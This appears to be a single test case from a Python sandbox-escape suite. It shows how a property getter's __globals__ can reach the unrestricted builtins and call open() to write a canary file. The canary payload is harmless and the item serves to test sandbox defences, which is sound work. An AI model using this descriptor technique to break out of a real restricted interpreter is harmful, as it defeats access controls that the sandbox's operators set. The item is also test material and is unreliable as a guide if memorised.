# id: 570
# name: property_and_descriptor
# category: interpreter
# technique: descriptors: property.fget, member.__get__, classmethod.__func__, staticmethod.__wrapped__
# breach: file
# looks_like: CANARY_FILE is created
# baseline: inproc
class C:
    @property
    def p(self): return 1
    @staticmethod
    def s(): return 1
f = C.p.fget
f.__globals__['__builtins__']['open'](CANARY_FILE, 'w').write('x') if isinstance(f.__globals__['__builtins__'], dict) else f.__globals__['__builtins__'].open(CANARY_FILE, 'w').write('x')
